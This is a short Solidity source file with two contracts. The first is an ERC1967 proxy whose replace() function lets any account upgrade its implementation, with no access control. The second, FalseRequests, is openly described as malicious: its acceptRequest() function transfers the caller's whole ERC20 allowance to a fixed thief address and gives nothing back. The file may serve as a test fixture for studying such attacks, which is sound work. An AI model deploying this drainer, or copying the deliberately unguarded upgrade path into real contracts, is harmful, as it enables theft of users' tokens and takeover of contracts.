// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {ERC1967Proxy} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Proxy.sol";
import {ERC1967Utils} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Utils.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title A proxy whose implementation any account can replace.
contract RequestProxy is ERC1967Proxy {
    constructor(address code) ERC1967Proxy(code, "") {}

    function replace(address code) external {
        ERC1967Utils.upgradeToAndCall(code, "");
    }

    function _unsafeAllowUninitialized() internal pure override returns (bool) {
        return true;
    }

    receive() external payable {}
}

/// @title A malicious implementation for the proxy. It takes the caller's whole allowance and sells nothing.
contract FalseRequests {
    address private immutable _thief;
    IERC20 private immutable _currency;

    constructor(address thief, IERC20 currency) {
        _thief = thief;
        _currency = currency;
    }

    function acceptRequest(uint256, uint256, address, uint256[] calldata, address[] calldata) external payable {
        _currency.transferFrom(msg.sender, _thief, _currency.allowance(msg.sender, address(this)));
    }
}
